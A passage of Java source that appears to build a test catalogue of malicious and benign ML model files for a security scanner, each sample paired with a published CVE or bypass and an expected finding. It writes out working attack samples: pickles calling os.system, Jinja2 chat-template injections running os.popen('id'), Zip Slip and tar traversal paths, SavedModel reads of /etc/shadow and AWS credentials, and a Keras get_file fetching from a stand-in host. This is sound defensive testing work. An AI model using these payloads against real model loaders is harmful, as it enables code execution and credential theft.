                                java.nio.charset.StandardCharsets.US_ASCII)).bytes(), DANGEROUS)
                // judged by use: a call needs an entry that allows it, with its arguments
                .add("harmless builtin called", "a call no entry allows (builtins judged one by one: len is not eval)",
                        calling("builtins", "len", "id"), "pickle.unlisted_call")
                .add("nn module class called instead of constructed", "a class entry allows NEWOBJ + BUILD, not REDUCE",
                        calling("torch.nn.modules.linear", "Linear", "id"), "pickle.unlisted_call")
                .add("function under a class wildcard called", "torch.nn.modules.* admits classes only, never a hook function",
                        calling("torch.nn.modules.module", "register_module_forward_hook", "id"), "pickle.unlisted_call")
                .add("class of the saving script", "torch.save of a user-defined class: __main__ is imported and its class"
                        + " constructed, code the file does not hold", calling("__main__", "Net"), "pickle.needs_code")
                .add("ufunc resolver asked for os.system", GADGETS + "numpy.core._ufunc_reconstruct imports any module",
                        calling("numpy.core", "_ufunc_reconstruct", "os", "system"), DANGEROUS)
                .add("ufunc resolver: honest call, then a memo copy called with os.system", "memo trick: the same global"
                        + " called twice, every call's arguments judged", FrameTricks.resolverFromMemo(), DANGEROUS)
                .add("tensor rebuilt with a backward hook", FICKLING + "Sleepy Pickle: a hook torch calls later",
                        FrameTricks.tensorWithHook(), DANGEROUS)
                .add("class entry called after DUP and POP", "stack trick: the global reaches REDUCE through DUP",
                        p().proto(2).global("torch.nn.modules.linear", "Linear").op('2').op('0').binUnicode("id").tuple1()
                                .reduce().stop().bytes(), "pickle.unlisted_call")
                .add("class entry called by INST", "protocol 0 INST calls the class with the marked arguments",
                        p().mark().binUnicode("id").inst("sklearn.svm._classes", "SVC").stop().bytes(), "pickle.unlisted_call")
                .add("unlisted call hidden in the memo under an allowed name's slot", "memo trick: BINPUT overwrites a"
                        + " slot that held an allowed global", p().proto(2).global("collections", "OrderedDict").binput(0)
                        .op('0').global("builtins", "len").binput(0).op('0').binget(0).binUnicode("id").tuple1().reduce()
                        .stop().bytes(), "pickle.unlisted_call")
                .add("PROTO 6", "a protocol no CPython knows: not sniffed as a pickle, so no format",
                        p().proto(6).none().stop().bytes(), "format.unknown")
                .add("stack underflow at REDUCE", "a stream CPython refuses", p().proto(2).reduce().stop().bytes(), "pickle.malformed")
                .add("10,001 open marks", "analysis bounds", marks(10_001), "pickle.limit_exceeded")
                .add("pickle then zip polyglot", "pickle/zip polyglot: zip readers and pickle readers see different content",
                        concat(honest, zip().with("a.npy", new byte[8]).bytes()), "pickle.trailing_data")
                .add("polyglot whose appended zip holds the payload", "pickle/zip polyglot",
                        concat(honest, zip().with("x.pkl", EVIL).bytes()), DANGEROUS)
                .add("CVE-2025-1889: plain pickle named with a non-standard extension", "Sonatype 2025, CVE-2025-1889: picklescan"
                        + " only opened standard pickle extensions", "model.ckpt2", callingProto2("os", "system", "id"), DANGEROUS)
                .add("pickle named .safetensors", "a name that lies about the format (content decides)", "model.safetensors",
                        calling("subprocess", "getoutput", "id"), DANGEROUS);
    }

    private static void containers(Catalogue c) {
        c.add("gzip-wrapped pickle", "gzip-compressed pickles (torch.load and joblib read them)", "model.pkl.gz",
                        Samples.gzip(EVIL), DANGEROUS)
                .add("gzip of a gzip of a pickle", "nested compression", Samples.gzip(Samples.gzip(EVIL)), DANGEROUS)
                .add("gzip cut short", "a gzip body that breaks", Arrays.copyOf(Samples.gzip(EVIL), 30), "gzip.malformed")
                .add("joblib zlib dump with a payload", "joblib.dump(compress=3) writes one zlib stream; joblib.load inflates"
                        + " and unpickles it", "model.joblib", Samples.zlib(EVIL),
                        DANGEROUS)
                .add("joblib zlib dump inside a zip", "the same as an archive member", "models.zip", zip().with("model.joblib",
                        Samples.zlib(EVIL)).bytes(), DANGEROUS)
                .add("npy object array (allow_pickle)", "CVE-2019-6446: numpy.load unpickles object arrays", "x.npy",
                        npyObject(EVIL), DANGEROUS)
                .add("npz holding an object array", "CVE-2019-6446 inside an .npz", "x.npz",
                        zip().with("a.npy", npyObject(EVIL)).bytes(), DANGEROUS)
                .add("npy header length past the file", "format attack: .npy header",
                        concat(new byte[]{(byte) 0x93, 'N', 'U', 'M', 'P', 'Y', 1, 0, (byte) 0xff, (byte) 0xff}, ascii("{'descr': '|O'")),
                        "numpy.malformed")
                .add("joblib: payload after an inline array", "joblib dumps store arrays inline, hiding what follows",
                        "model.joblib", joblib("f8", concat(new byte[]{3, (byte) 0xff, (byte) 0xff, (byte) 0xff}, filled(32)), EVIL),
                        DANGEROUS)
                .add("joblib: object array holding a nested pickle", "joblib object arrays are whole pickles of their own",
                        "model.joblib", joblib("O", EVIL, new byte[0]), DANGEROUS)
                .add("torch legacy file whose model pickle calls os.system", "torch.save before 1.6 (legacy pickles)",
                        "model.pt", legacy(EVIL, "0", concat(le64(4), new byte[16])), DANGEROUS)
                .add("torch legacy storage record past the end", "legacy storage lengths",
                        legacy(legacyModel(), "0", concat(le64(1000), new byte[16])), "torch.legacy_storage")
                .add("torch legacy with a zip after its storages", "legacy file / zip polyglot",
                        legacy(legacyModel(), "0", concat(le64(4), new byte[16], zip().with("x.pkl", EVIL).bytes())),
                        "pickle.trailing_data")
                .add("7z-compressed PyTorch model", NULLIFAI + "7z archives that scanners did not open", "model.7z",
                        sevenZip("archive/data.pkl", EVIL), DANGEROUS);
    }

    private static void torchAndZip(Catalogue c) {
        ZipBuilder deflated = zip();
        deflated.add("archive/data.pkl", EVIL).deflate();
        ZipBuilder renamed = torch();
        renamed.add("archive/notes.txt", EVIL).localName("archive/notes.pkl");
        ZipBuilder flagged = zip();
        flagged.add("archive/data.pkl", EVIL).flags(0x801);
        ZipBuilder badCrc = zip();
        badCrc.add("archive/data.pkl", EVIL).crc(0x12345678L);
        ZipBuilder bzip = zip();
        bzip.add("archive/data.pkl", EVIL).method(12);
        ZipBuilder gap = torch();
        gap.add("archive/extra", new byte[8]).gapAfter(64);
        gap.add("archive/extra2", new byte[8]);
        ZipBuilder overlap = zip();
        overlap.add("archive/data.pkl", DATA_PKL);
        overlap.add("archive/data/0", new byte[16]).localOffsetOf(0);
        ZipBuilder link = zip();
        link.add("archive/data/0", ascii("/etc/passwd")).symlink();
        ZipBuilder sizeLie = torch();
        sizeLie.add("archive/extra", new byte[8]).size(4);
        byte[] lying = zip().with("archive/data.pkl", DATA_PKL).bytes();
        lying[lying.length - 10] = (byte) 0xf0; // central directory size in the end record: far bigger than the file
        String cve1944 = "Sonatype 2025, CVE-2025-1944: ";
        String zipAttack = "format attack: zip structure (readers disagree on what it holds)";
        c.add("torch zip whose data.pkl imports os", "malicious PyTorch checkpoints (torch.save zip)", "pytorch_model.bin",
                        zip().with("archive/data.pkl", EVIL).bytes(), DANGEROUS)
                .add("deflated malicious data.pkl", "compression hides the payload from byte scanners", deflated.bytes(), DANGEROUS)
                .add("pickle hidden in a member named data.txt", "published bypass (FIELD-NOTES): pickles in innocently named"
                        + " members", torch().with("archive/data.txt", EVIL).bytes(), "torch.extra_pickle")
                .add("pickle hidden as a tensor storage", "a storage member that is a pickle",
                        torch().with("archive/data/2", EVIL).bytes(), DANGEROUS)
                .add("a second data.pkl under another prefix", "two roots in one archive", torch().with("other/data.pkl", DATA_PKL)
                        .bytes(), "torch.extra_pickle")
                .add("local and central names differ", cve1944 + "zip file name tampering", renamed.bytes(), "zip.header_mismatch")
                .add("encryption flag on data.pkl", "Sonatype 2025, CVE-2025-1945: zip flag bits", flagged.bytes(), "zip.encrypted")
                .add("CRC mismatch on data.pkl", "JFrog 2025 picklescan advisories: a bad CRC stops the scanner, not torch",
                        badCrc.bytes(), "zip.crc_mismatch")
                .add("unsupported compression method", zipAttack, bzip.bytes(), "zip.unsupported_method")
                .add("a second end-of-central-directory record", zipAttack + ": two end records", torch().secondEndRecord().bytes(),
                        "zip.multiple_end_records")
                .add("data before the first entry (offsets shifted)", zipAttack + ": prefix data",
                        torch().prefix(concat(EVIL, new byte[]{0, 0})).bytes(), "zip.prefix_data")
                .add("data before the first entry (offsets counted)", zipAttack + ": prefix data",
                        torch().countedPrefix(new byte[64]).bytes(), "zip.prefix_data")
                .add("bytes hidden between entries", zipAttack + ": gaps", gap.bytes(), "zip.gap")
                .add("two entries on the same bytes", zipAttack + ": overlapping entries", overlap.bytes(), "zip.overlap")
                .add("declared size disagrees with the data", zipAttack, sizeLie.bytes(), "zip.size_mismatch")
                .add("end record whose directory does not fit", zipAttack, lying, "zip.malformed")
                .add("member name with ../", "Snyk 2018 'Zip Slip': path traversal", zip().with("../../.bashrc", ascii("x")).bytes(),
                        "zip.path_traversal")
                .add("member name with a nested ../", "Snyk 2018 'Zip Slip'", zip().with("a/b/../../../x", ascii("x")).bytes(),
                        "zip.path_traversal")
                .add("absolute member name", "Snyk 2018 'Zip Slip'", zip().with("/etc/cron.d/x", ascii("x")).bytes(), "zip.absolute_path")
                .add("drive letter member name", "Snyk 2018 'Zip Slip' (Windows)", zip().with("C:/x", ascii("x")).bytes(),
                        "zip.absolute_path")
                .add("backslash member name", "Snyk 2018 'Zip Slip' (Windows)", zip().with("..\\evil.py", ascii("x")).bytes(),
                        "zip.backslash_path")
                .add("NUL byte in a member name", zipAttack + ": names C and Java read differently",
                        zip().with("archive/data.pkl\u0000.txt", DATA_PKL).bytes(), "zip.bad_name")
                .add("data.pkl twice", zipAttack + ": the first or the last wins", zip().with("archive/data.pkl", DATA_PKL)
                        .with("archive/data.pkl", EVIL).bytes(), "zip.duplicate_name")
                .add("symbolic link member", zipAttack + ": links", link.bytes(), "zip.symlink")
                .add("archives nested four deep", "nested archives", zip().with("a.zip", zip().with("b.zip", zip().with("c.zip",
                        zip().with("x", EVIL).bytes()).bytes()).bytes()).bytes(), "zip.nesting_depth")
                .add("zip inside a zip holding a pickle", "nested archives", zip().with("inner.zip", zip().with("x.bin", EVIL).bytes())
                        .bytes(), DANGEROUS)
                .add("gzip inside a zip holding a pickle", "nested archives", zip().with("model.bin.gz", Samples.gzip(EVIL)).bytes(),
                        DANGEROUS);
    }

    private static void tar(Catalogue c) {
        String tarAttack = "format attack: tar structure";
        c.add("tar member name with ../", "tar path traversal (CVE-2007-4559, Python tarfile)", "model.tar",
                        TarBuilder.tar().file("../../.bashrc", "x").bytes(), "tar.path_traversal")
                .add("tar absolute member name", "tar path traversal (CVE-2007-4559)", TarBuilder.tar().file("/etc/cron.d/x", "x").bytes(),
                        "tar.absolute_path")
                .add("tar symlink member", tarAttack + ": links", TarBuilder.tar().entry("model.safetensors", '2', new byte[0],
                        "/etc/passwd", false).bytes(), "tar.symlink")
                .add("tar hard link member", tarAttack + ": links", TarBuilder.tar().file("a", "x").entry("b", '1', new byte[0], "a",
                        false).bytes(), "tar.hardlink")
                .add("tar device member", tarAttack + ": devices", TarBuilder.tar().entry("dev", '3', new byte[0], "", false).bytes(),
                        "tar.device")
                .add("tar header checksum wrong on the second member", tarAttack + ": readers that skip checksums see a member",
                        TarBuilder.tar().file("a", "x").entry("b.pkl", '0', EVIL, "", true).bytes(), "tar.checksum")
                .add("tar member hidden after the end marker", tarAttack + ": tar --ignore-zeros extracts it",
                        TarBuilder.tar().file("a", "x").trailing(TarBuilder.tar().file("b.pkl", EVIL).bytes()).bytes(),
                        "tar.trailing_data")
                .add("pax global header renaming members", tarAttack + ": pax global headers",
                        TarBuilder.tar().pax('g', List.of("path=evil.pkl"), null, new byte[0]).file("a", "x").bytes(),
                        "tar.global_header")
                .add("pax path header with ../ under an innocent ustar name", "tar path traversal through pax headers",
                        TarBuilder.tar().pax('x', List.of("path=../../.bashrc"), "notes.txt", ascii("x")).bytes(), "tar.path_traversal")
                .add("GNU long name with ../", "tar path traversal through GNU long names",
                        TarBuilder.tar().gnuLong("../".repeat(40) + "home/user/.bashrc", ascii("x")).bytes(), "tar.path_traversal")
                .add("pickle named notes.txt in a tar.gz", "a pickle inside a tar.gz, found by content", "model.tar.gz",
                        TarBuilder.tar().file("notes.txt", EVIL).gzipped(), DANGEROUS);
    }

    private static void weights(Catalogue c) {
        double[] v = WeightStatsTest.gaussian(64 * 64, 0.02, 7);
        v[1234] = Double.NaN;
        c.add("a NaN planted in a weight matrix", "format attack: weights that poison inference", "model.safetensors",
                        WeightStatsTest.safetensors(WeightStatsTest.floats("w", WeightStats.DType.F32, new long[]{64, 64}, v)),
                        "weights.nan")
                .add("encrypted payload stored as a tensor", "HiddenLayer 2022 / EvilModel 2021: payloads hidden in weights",
                        "model.safetensors", WeightStatsTest.safetensors(new WeightStatsTest.T("w", "F32", new long[]{64, 64},
                                Samples.random(64 * 64 * 4, 11))), "weights.random_bytes");
    }

    private static void folders(Catalogue c) {
        Map<String, byte[]> repo = Folders.hfRepository();
        Map<String, byte[]> sd = Folders.diffusers();
        String hf = "Hugging Face loaders run repository code: ";
        String cve1550 = "JFrog 2025, CVE-2025-1550: Keras safe_mode bypass through config.json module names";
        c.add("auto_map in config.json", hf + "auto_map with trust_remote_code", "repo.zip",
                        pack(with(repo, "repo/config.json", "{\"model_type\": \"x\", \"auto_map\": {\"AutoModelForCausalLM\":"
                                + " \"modeling_x.XForCausalLM\"}}"), Container.ZIP), "hf.remote_code")
                .add("trust_remote_code in tokenizer_config.json", hf + "trust_remote_code", "repo.tar.gz",
                        pack(with(repo, "repo/tokenizer_config.json", "{\"tokenizer_class\": \"T\", \"trust_remote_code\": true}"),
                                Container.TGZ), "hf.remote_code")
                .add("auto_map in tokenizer_config.json", hf + "AutoTokenizer reads auto_map from tokenizer_config.json",
                        "repo.zip", pack(with(repo, "repo/tokenizer_config.json", "{\"auto_map\": {\"AutoTokenizer\":"
                                + " [\"tokenization_x.XTokenizer\", null]}}"), Container.ZIP), "hf.remote_code")
                .add("auto_map in preprocessor_config.json", hf + "AutoImageProcessor reads auto_map from preprocessor_config.json",
                        "repo.zip", pack(with(repo, "repo/preprocessor_config.json", "{\"auto_map\": {\"AutoImageProcessor\":"
                                + " \"image_processing_x.XImageProcessor\"}}"), Container.ZIP), "hf.remote_code")
                .add("modeling Python file in a repository", hf + "modeling_*.py", "repo.zip",
                        pack(with(repo, "repo/modeling_x.py", "import os\nos.system('id')\n"), Container.ZIP), "hf.python_code")
                .add("compiled Python in a repository", hf + "__pycache__", "repo.zip",
                        pack(with(repo, "repo/__pycache__/x.cpython-311.pyc", new byte[]{(byte) 0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0}),
                                Container.ZIP), "hf.python_code")
                .add("chat_template SSTI in tokenizer_config.json", "CVE-2024-34359 class: Jinja2 SSTI in a chat template",
                        "repo.zip", pack(with(repo, "repo/tokenizer_config.json", "{\"chat_template\": \"{{ ''.__class__.__mro__[1]"
                                + ".__subclasses__() }}\"}"), Container.ZIP), "hf.template_injection")
                .add("chat_template.jinja SSTI through lipsum", "CVE-2024-34359 class: Jinja2 SSTI in a chat template",
                        "repo.tar.gz", pack(with(repo, "repo/chat_template.jinja", "{% for m in messages %}"
                                + "{{ lipsum.__globals__['os'].popen('id').read() }}{% endfor %}"), Container.TGZ), "hf.template_injection")
                .add("config.json with a duplicate key", "JSON parser differential (first vs last key wins)", "repo.zip",
                        pack(with(repo, "repo/config.json", "{\"model_type\": \"llama\", \"model_type\": \"evil\"}"), Container.ZIP),
                        "folder.malformed_json")
                .add("malicious pytorch_model.bin beside safetensors", "JFrog 2024: malicious pickles in Hugging Face repositories",
                        "repo.zip", pack(with(repo, "repo/pytorch_model.bin", EVIL), Container.ZIP), DANGEROUS)
                .add("Keras Lambda layer in a .keras file", "CVE-2024-3660: Keras Lambda layers run marshalled code", "model.keras",
                        Folders.keras("{\"module\": \"keras.layers\", \"class_name\": \"Lambda\", \"config\": {\"function\":"
                                + " {\"class_name\": \"__lambda__\", \"config\": {\"code\": \"4wEAAAAAAAAA\"}}}}"), "keras.lambda_layer")
                .add("Keras config naming a module outside Keras", cve1550, "model.keras",
                        Folders.keras("{\"module\": \"keras.layers\", \"class_name\": \"Dense\", \"config\": {\"activation\":"
                                + " {\"module\": \"os\", \"class_name\": \"function\", \"config\": \"system\"}}}"), "keras.foreign_module")
                .add("Keras registered custom object", cve1550 + " (registered objects)", "model.keras",
                        Folders.keras("{\"module\": null, \"class_name\": \"Evil\", \"registered_name\": \"evilpkg>Evil\"}"),
                        "keras.custom_object")
                .add("Keras Lambda inside a repository", "CVE-2024-3660 inside a Hugging Face repository", "repo.zip",
                        pack(with(repo, "repo/model.keras", Folders.keras("{\"class_name\": \"Lambda\", \"config\": {}}")),
                                Container.ZIP), "keras.lambda_layer")
                .add("diffusers custom pipeline class", "diffusers custom pipelines load code named by model_index.json",
                        "pipeline.zip", pack(with(sd, "sd/model_index.json", "{\"_class_name\": [\"pipeline\", \"MyPipeline\"],"
                                + " \"unet\": [\"diffusers\", \"UNet2DConditionModel\"]}"), Container.ZIP), "diffusers.custom_pipeline")
                .add("diffusers component from an arbitrary library", "diffusers imports component libraries by name",
                        "pipeline.tar.gz", pack(with(sd, "sd/model_index.json", "{\"_class_name\": \"StableDiffusionPipeline\","
                                + " \"unet\": [\"my_evil_lib\", \"UNet\"]}"), Container.TGZ), "diffusers.custom_component")
                .add("diffusers pipeline.py beside the components", "diffusers custom pipelines (pipeline.py)", "pipeline.zip",
                        pack(with(sd, "sd/pipeline.py", "import os\n"), Container.ZIP), "hf.python_code")
                .add("shard outside the folder", "sharded checkpoints: weight_map paths", "sharded.zip",
                        pack(with(Folders.sharded(), "model.safetensors.index.json", "{\"weight_map\": {\"lm_head.weight\":"
                                + " \"../other/model-00002-of-00002.safetensors\"}}"), Container.ZIP), "shard.outside_folder")
                .add("ONNX external data outside the folder", "ONNX external data path traversal (CVE-2022-25882 class)",
                        "onnx.zip", pack(Folders.onnxExternal("../../etc/passwd"), Container.ZIP), "onnx.external_data_outside")
                .add("safetensors shard whose header length runs past the member", "format attack: safetensors layout, inside"
                        + " a sharded folder", "sharded.zip", pack(with(Folders.sharded(), "model-00002-of-00002.safetensors",
                        FormatAttacks.headerPastTheFile()), Container.ZIP), "shard.not_safetensors")
                .add("split GGUF part with an SSTI chat template", "CVE-2024-34359 inside a split GGUF", "llama.zip",
                        pack(with(Folders.splitGguf(), "llama/llama-7b-00002-of-00003.gguf",
                                FormatAttacks.ggufWithTemplate("{{ joiner.__init__.__globals__.os.popen('id').read() }}")), Container.ZIP), "gguf.template_injection")
                .add("GGUF chat_template SSTI with dunder names split by ~", CONCAT_SSTI, "model.gguf",
                        FormatAttacks.ggufWithTemplate(CONCAT_TEMPLATE), "gguf.template_injection")
                .add("tokenizer_config.json SSTI with dunder names split by ~", CONCAT_SSTI, "repo.zip",
                        pack(with(Folders.hfRepository(), "repo/tokenizer_config.json", "{\"chat_template\": \""
                                + CONCAT_TEMPLATE.replace("\"", "\\\"") + "\"}"), Container.ZIP), "hf.template_injection");
    }

    /** Formats once refused as unknown or passed unjudged: Keras 3 object resolution, SavedModel ops, 7z, templates alone. */
    private static void formatsRead(Catalogue c) {
        String getFile = "{\"module\": \"keras.src.utils.file_utils\", \"class_name\": \"get_file\", \"config\":"
                + " {\"origin\": \"http://203.0.113.1/x\"}, \"registered_name\": null}";
        c.add("Keras config.json alone naming module os", "issue 13: Keras reads config.json before anything else",
                        "model.keras", zip().with("config.json", ascii("{\"module\": \"os\", \"class_name\": \"system\","
                                + " \"config\": {}, \"registered_name\": null}")).bytes(), "keras.foreign_module")
                .add("Keras keras.src function as class_name", "JFrog 2025 CVE-2025-1550 (Keras safe_mode bypass)",
                        "model.keras", zip().with("config.json", ascii("{\"module\": \"keras\", \"class_name\":"
                                + " \"Sequential\", \"config\": {\"layers\": [" + getFile + "]}}")).bytes(),
                        "keras.function_as_class")
                .add("Keras TorchModuleWrapper", "Keras TorchModuleWrapper: torch.load of bytes in the config",
                        "model.keras", Folders.keras("{\"module\": \"keras.layers\", \"class_name\": \"TorchModuleWrapper\","
                                + " \"config\": {\"module\": \"gASVAAAAAAAAAAA=\"}, \"registered_name\": null}"), "keras.code_layer")
                .add("SavedModel with a PyFunc", "TensorFlow tf.py_function in a SavedModel graph", "saved_model.zip",
                        pack(SavedModelBuilder.folder("m/", SavedModelBuilder.savedModel(List.of(
                                SavedModelBuilder.node("p", "PyFunc", "x")), List.of())), Container.ZIP), "savedmodel.python_op")
                .add("SavedModel ReadFile of a constant path", "TensorFlow tf.io.read_file in a SavedModel graph",
                        "saved_model.tar", pack(SavedModelBuilder.folder("m/", SavedModelBuilder.savedModel(List.of(
                                SavedModelBuilder.stringConst("path", "/etc/shadow"), SavedModelBuilder.node("r", "ReadFile",
                                        "path")), List.of())), Container.TAR), "savedmodel.file_op")
                .add("SavedModel RestoreV2 on a constant path", "issue 13: save/restore ops with attacker paths",
                        "saved_model.zip", pack(SavedModelBuilder.folder("", SavedModelBuilder.savedModel(List.of(
                                SavedModelBuilder.stringConst("c", "/home/user/.aws/credentials"), SavedModelBuilder.node(
                                        "RestoreV2", "RestoreV2", "c", "n", "s")), List.of())), Container.ZIP),
                        "savedmodel.constant_path")
                .add("7z member climbing out of the folder", NULLIFAI + "7z archives; Zip Slip in 7z", "model.7z",
                        sevenZip("../../.bashrc", ascii("id")), "sevenz.path_traversal")
                .add("chat template alone with an SSTI", "CVE-2024-34359 as chat_template.jinja alone", "chat_template.jinja",
                        ascii("{% for m in messages %}{{ cycler.__init__.__globals__.os.popen('id').read() }}{% endfor %}"),
                        "hf.template_injection");
    }

    /** Info-ZIP Unicode Path extra fields (0x7075) that rename members for the readers honouring them. */
    private static void unicodePaths(Catalogue c) {
        byte[] notes = ascii("x");
        c.add("Unicode Path extra field with ../", UNICODE_PATH + "; a name that climbs out of the extraction folder"
                        + " (a closed known gap)", "folder.zip", unicodePathZip(new Object[]{"config.json", null,
                        ascii("{\"model_type\": \"bert\"}")}, new Object[]{"notes.txt", "../../.bashrc", notes}), "zip.path_traversal")
                .add("Keras config.json replaced through a Unicode Path extra field", UNICODE_PATH + "; the second member's"
                        + " real name is config.json, the last one wins in zipfile, and Keras reads it (a closed known gap: the"
                        + " archive is rejected before the Keras rules, which read header names)", "model.keras",
                        unicodePathZip(new Object[]{"metadata.json", null, ascii("{\"keras_version\": \"3.3.3\"}")},
                                new Object[]{"config.json", null, ascii(Folders.HONEST_KERAS)},
                                new Object[]{"notes.json", "config.json", ascii(LAMBDA_LAYER)},
                                new Object[]{"model.weights.h5", null, Samples.hdf5(0)}), "zip.unicode_path_mismatch")
                .add("Unicode Path field naming an absolute path", UNICODE_PATH, "folder.zip", unicodePathZip(new Object[]{
                        "config.json", null, ascii("{}")}, new Object[]{"notes.txt", "/etc/cron.d/airlock-corpus", notes}),
                        "zip.absolute_path")
                .add("Unicode Path field renaming a weights file to a pickle", UNICODE_PATH + ": model.bin for the scanner,"
                        + " data.pkl for the loader", "folder.zip", unicodePathZip(new Object[]{"model.bin", "data.pkl", new byte[8]}),
                        "zip.unicode_path_mismatch")
                .add("stale Unicode Path field (CRC-32 of another name)", UNICODE_PATH + "; readers that skip the CRC check use"
                        + " it anyway", "folder.zip", UnicodePathZip.zip().raw(ascii("notes.txt"), UnicodePathZip.field(1, 0x12345678L,
                        ascii("config.json")), new byte[0], 0, notes).bytes(), "zip.unicode_path_mismatch")
                .add("Unicode Path field in the local header only", UNICODE_PATH + "; Info-ZIP unzip reads local headers too",
                        "folder.zip", UnicodePathZip.zip().raw(ascii("notes.txt"), new byte[0], UnicodePathZip.field(1,
                        UnicodePathZip.crc(ascii("notes.txt")), ascii("../x")), 0, notes).bytes(), "zip.unicode_path_mismatch")
                .add("Unicode Path field too short for its CRC", UNICODE_PATH + "; Python's zipfile refuses the archive",
                        "folder.zip", UnicodePathZip.zip().raw(ascii("notes.txt"), UnicodePathZip.shortField(), new byte[0], 0, notes)
                                .bytes(), "zip.unicode_path_mismatch")
                .add("two members named data.pkl once the Unicode Path field is read", UNICODE_PATH + ": a duplicate only"
                        + " the readers honouring the field see", "folder.zip", UnicodePathZip.zip().plain("data.pkl", DATA_PKL)
                        .renamed("data.bin", "data.pkl", EVIL).bytes(), "zip.duplicate_name");
    }

    /** Keras .h5 files (HDF5): the model config found by the byte search and judged by the Keras rules. */
    private static void kerasH5(Catalogue c) {
        String h5 = "CVE-2024-3660 in the HDF5 format (a closed known gap: .h5 configs were not read): ";
        c.add("Keras .h5 whose model_config holds a Lambda", h5 + "the attribute's JSON after an HDF5 signature", "model.h5",
                        concat(Samples.hdf5(0), ascii("{\"class_name\": \"Functional\", \"config\": {\"layers\": [{\"class_name\":"
                                + " \"Lambda\", \"config\": {\"function\": [\"4wEAAAAAAAAA\", null, null]}}]}}")), "keras.lambda_layer")
                .add("Keras .h5 config with a module outside Keras", "JFrog 2025, CVE-2025-1550 in an .h5 config", "model.h5",
                        kerasH5File("{\"class_name\": \"Sequential\", \"config\": {\"layers\": [{\"class_name\": \"Dense\","
                                + " \"config\": {\"activation\": {\"module\": \"os\", \"class_name\": \"function\", \"config\":"
                                + " \"system\"}}}]}}"), "keras.foreign_module")
                .add("Keras .h5 config written to dodge a literal search", h5 + "key order, spacing and an escaped key:"
                                + " json.loads reads the same Lambda",
                        "model.h5", kerasH5File("{ \"config\": {\"layers\": [{\"config\": {}, \"\\u0063lass_name\": \"Lambda\"}]},"
                                + " \"class_name\": \"Functional\"}"), "keras.lambda_layer")
                .add("Keras .h5 with a decoy honest config before the real one", h5 + "a scanner that stops at the first"
                        + " config reads the decoy", "model.h5", kerasH5File(HONEST_H5_CONFIG, "{\"class_name\": \"Sequential\","
                        + " \"config\": {\"layers\": [" + LAMBDA_LAYER + "]}}"), "keras.lambda_layer")
                .add("Keras .h5 config with a duplicate key", "JSON parser differential (json.loads keeps the last key)",
                        "model.h5", kerasH5File("{\"class_name\": \"Sequential\", \"class_name\": \"Functional\", \"config\": {}}"),
                        "keras.malformed")
                .add("Keras .h5 config nested past the search's depth bound", "analysis bounds: json.loads reads 100 levels",
                        "model.h5", kerasH5File("{\"class_name\": \"Sequential\", \"config\": " + "[".repeat(100) + "]".repeat(100)
                                + "}"), "keras.limit_exceeded")
                .add("Keras .h5 with a Lambda inside a repository", h5 + "an .h5 member of a Hugging Face repository",
                        "repo.zip", pack(with(Folders.hfRepository(), "repo/tf_model.h5", kerasH5File("{\"class_name\":"
                                + " \"Sequential\", \"config\": {\"layers\": [" + LAMBDA_LAYER + "]}}")), Container.ZIP),
                        "keras.lambda_layer");
    }

    public static final String LAMBDA_LAYER = "{\"module\": \"keras.layers\", \"class_name\": \"Lambda\", \"config\":"
            + " {\"function\": {\"class_name\": \"__lambda__\", \"config\": {\"code\": \"4wEAAAAAAAAA\"}}}}";
    /** A Keras 2 model_config as json.dumps writes it: a Sequential of Dense layers. */
    public static final String HONEST_H5_CONFIG = "{\"class_name\": \"Sequential\", \"config\": {\"name\": \"sequential\","
            + " \"layers\": [{\"class_name\": \"InputLayer\", \"config\": {\"batch_input_shape\": [null, 4], \"dtype\":"
            + " \"float32\", \"name\": \"input_1\"}}, {\"class_name\": \"Dense\", \"config\": {\"name\": \"dense\","
            + " \"units\": 2, \"activation\": \"relu\", \"use_bias\": true, \"kernel_initializer\": {\"class_name\":"
            + " \"GlorotUniform\", \"config\": {\"seed\": null}}, \"bias_initializer\": {\"class_name\": \"Zeros\","
            + " \"config\": {}}}}]}, \"keras_version\": \"2.13.1\", \"backend\": \"tensorflow\"}";

    /**
     * An HDF5 file as far as the byte search cares: the superblock signature, then each JSON string
     * behind the bytes of an attribute message (its name, datatype and dataspace, which hold zeros),
     * then weight-like bytes. Not a complete HDF5 file: h5py could not open it.
     */
    public static byte[] kerasH5File(String... jsons) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(Samples.hdf5(0));
        for (String j : jsons) {
            out.writeBytes(new byte[]{0x0c, 0, 0x28, 0, 1, 0, 0, 0});
            out.writeBytes(ascii("model_config\0\0\0\0"));
            out.writeBytes(new byte[]{0x13, 0, 0, 0, (byte) j.length(), 0, 0, 0, 2, 0, 0, 0});
            out.writeBytes(j.getBytes(StandardCharsets.UTF_8));
        }
        java.util.Random r = new java.util.Random(7);
        byte[] weights = new byte[4096];
        r.nextBytes(weights);
        out.writeBytes(weights);
        return out.toByteArray();
    }

    // ---- benign -------------------------------------------------------------------------------------

    private static List<Sample> benign() {
        Catalogue c = new Catalogue();
        ZipBuilder deflatedTorch = zip();
        deflatedTorch.add("archive/data.pkl", DATA_PKL).deflate();
        deflatedTorch.add("archive/data/0", new byte[16]).deflate();
        deflatedTorch.add("archive/data/1", new byte[16]);
        byte[] stateDict = p().proto(4).frame(p().stackGlobal("collections", "OrderedDict").memoize().emptyTuple().reduce()
                .memoize().mark().str("lr").memoize().op('G').raw(binfloat(1e-3)).str("epochs").memoize().int1(3)
                .str("betas").memoize().op('G').raw(binfloat(0.9)).op('G').raw(binfloat(0.999)).op(0x86)
                .setitems().stop()).bytes();
        c.family("benign pickles and PyTorch")
                .add("torch zip (stored members)", "honest: torch.save layout", "pytorch_model.bin", ZipBuilder.honestTorch(), "")
                .add("torch zip with deflated members", "honest", "pytorch_model.bin", deflatedTorch.bytes(), "")
                .add("torch zip written by java.util.zip (data descriptors)", "honest", "model.pt", javaZipTorch(), "")
                .add("torch legacy file with one storage", "honest: torch.save before 1.6", "model.pt",
                        legacy(legacyModel(), "0", concat(le64(4), new byte[16])), "")
                .add("optimizer hyper-parameters as a framed protocol 4 OrderedDict", "honest", "optim.pkl", stateDict, "")
                .add("set and bytes at protocol 0 (__builtin__.set, _codecs.encode)", "honest: Python 3 at protocol 0", "x.pkl",
                        p().global("__builtin__", "set").mark().emptyList().global("_codecs", "encode").mark().unicode("x")
                                .unicode("latin1").tuple().reduce().op('a').tuple().reduce().stop().bytes(), "")
                .add("training arguments (argparse.Namespace, datetime)", "honest", "training_args.bin",
                        p().proto(4).stackGlobal("argparse", "Namespace").emptyTuple().newobj().emptyDict().str("seed").int1(42)
